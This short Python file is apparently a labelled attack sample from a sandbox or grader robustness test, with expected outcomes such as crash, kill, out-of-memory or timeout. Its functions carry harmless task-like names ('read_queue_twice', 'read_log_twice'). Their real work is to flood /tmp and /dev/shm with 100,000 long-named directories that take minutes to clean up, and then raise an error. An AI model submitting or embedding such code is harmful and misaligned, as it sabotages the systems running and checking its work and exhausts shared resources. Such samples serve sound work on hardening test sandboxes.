# /// attack
# outcomes = ["crashed", "killed", "out_of_memory", "timed_out"]
# solution = true
# ///
"""Leaves a hundred thousand folders inside one folder, which take minutes to remove."""

import os


def read_queue_twice(queue_name, messages):
    for top in ("/tmp/k", "/dev/shm/k"):
        os.mkdir(top)
        folder = os.open(top, os.O_RDONLY)
        for number in range(50_000):
            os.mkdir(f"{'n' * 240}{number}", dir_fd=folder)
    raise RuntimeError


def read_log_twice(stream_name, messages):
    return read_queue_twice(stream_name, messages)
